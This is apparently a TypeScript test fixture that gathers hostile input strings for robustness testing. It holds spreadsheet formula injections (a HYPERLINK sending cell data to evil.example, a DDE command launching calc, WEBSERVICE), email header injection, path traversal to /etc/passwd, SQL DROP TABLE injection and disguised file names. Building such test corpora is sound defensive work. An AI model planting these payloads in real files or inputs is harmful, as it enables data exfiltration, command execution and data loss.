import naughtyStrings from "big-list-of-naughty-strings/blns.json" with { type: "json" };
import { trials } from "../faults/faults.ts";
import { xssVectors } from "./xss-vectors.ts";

/** Begins a formula somewhere. */
export const formulas = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"].map(
  (trigger) => `${trigger}HYPERLINK("https://evil.example/?"&A1,"x")`,
);

/** Begins a formula, or is a date, in a spreadsheet that separates by another sign than ours. */
const separated = [
  ...[";", "\t", "|", "\n", "\r", "\r\n"].map((separator) => `x${separator}=1+cmd|' /C calc'!A0`),
  'x;"=WEBSERVICE(CHAR(104)&A2)";y',
  'x; \t"\uff1d1"|y',
  "2-5",
  "6-10",
  "24/7",
  "May 5",
];

/** Breaks lines, headers, paths, queries or the order of letters, or is no text at all. */
const breaking = [
  'x\r\nBcc: evil@example.com\r\n\r\n{"level":60,"msg":"forged"}',
  "x\u2028y\u2029z\u0085",
  "\u001b[2J\u001b]0;title\u0007",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "x'); DROP TABLE records; --",
  "\u202egnp.exe\u2066\u202d",
  "\ud83d",
  "x\udc00y",
  "\u0000",
  "__proto__",
  `{{client}} {{link}} %s %n \${PATH}`,
  "e\u0301".normalize("NFD").repeat(50),
  `x${"\u0301".repeat(500)}`,
];

const ours = [...xssVectors, ...formulas, ...separated, ...breaking];

/** All texts of which it is known that they have broken something, without the empty one. */
export const hostileStrings = [...new Set([...ours, ...naughtyStrings.filter((text) => text !== "")])];

/** Of the long list of others every tenth, for what needs a call for each; all of them in the long form. */
export function someHostileStrings(): string[] {
  return hostileStrings.filter((_, place) => place < ours.length || place % trials(10, 1) === 0);
}

/** In pieces of at most so many. */
export function inPieces<Item>(items: readonly Item[], size: number): Item[][] {
  const count = Math.ceil(items.length / size);
  return Array.from({ length: count }, (_, place) => items.slice(place * size, (place + 1) * size));
}

/** All of the texts, a blank between them, in as few pieces of at most so many characters as there can be. */
export function packed(texts: readonly string[], maxLength: number): string[] {
  const whole = texts.join(" ");
  return Array.from({ length: Math.ceil(whole.length / maxLength) }, (_, place) =>
    whole.slice(place * maxLength, (place + 1) * maxLength),
  );
}
